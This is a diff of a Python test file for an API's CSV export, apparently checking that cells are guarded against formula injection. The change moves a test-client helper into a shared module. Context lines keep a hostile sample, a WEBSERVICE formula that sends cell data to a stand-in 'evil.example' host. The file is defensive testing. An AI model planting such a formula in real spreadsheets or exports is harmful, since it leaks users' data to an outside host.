@@ -9,8 +9,6 @@ are never altered.
 from __future__ import annotations
 
 import io
-from collections.abc import Iterator
-from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -18,10 +16,9 @@ import pyarrow as pa
 import pyarrow.csv as pcsv
 from fastapi.testclient import TestClient
 
-from api.app import create_app
-from api.settings import Settings
 from storage.base import EventStore
 from storage.schema import EVENT_SCHEMA
+from tests.api.readkit import client_with
 from tests.contract.events import event, table
 
 HOSTILE = '=WEBSERVICE("http://evil.example/?"&A1)'
@@ -36,19 +33,6 @@ CELLS: dict[str, tuple[str, str]] = {
     "machine_name": ("PC=1", "PC=1"),  # not at the start: untouched
     "session_id": (" =1", " =1"),  # a leading space is not in the OWASP list
 }
-
-
-@contextmanager
-def client_with(store: EventStore, tmp_path: Path, **overrides: Any) -> Iterator[TestClient]:
-    """The app over `store` with settings overridden."""
-    settings = Settings(
-        store_url=f"parquet://{tmp_path / 'unused-store'}",
-        spool_dir=tmp_path / "spool",
-        archive_url=str(tmp_path / "archive"),
-        **overrides,
-    )
-    with TestClient(create_app(settings, store=store)) as client:
-        yield client
 
 
 def _seed(store: EventStore) -> None:
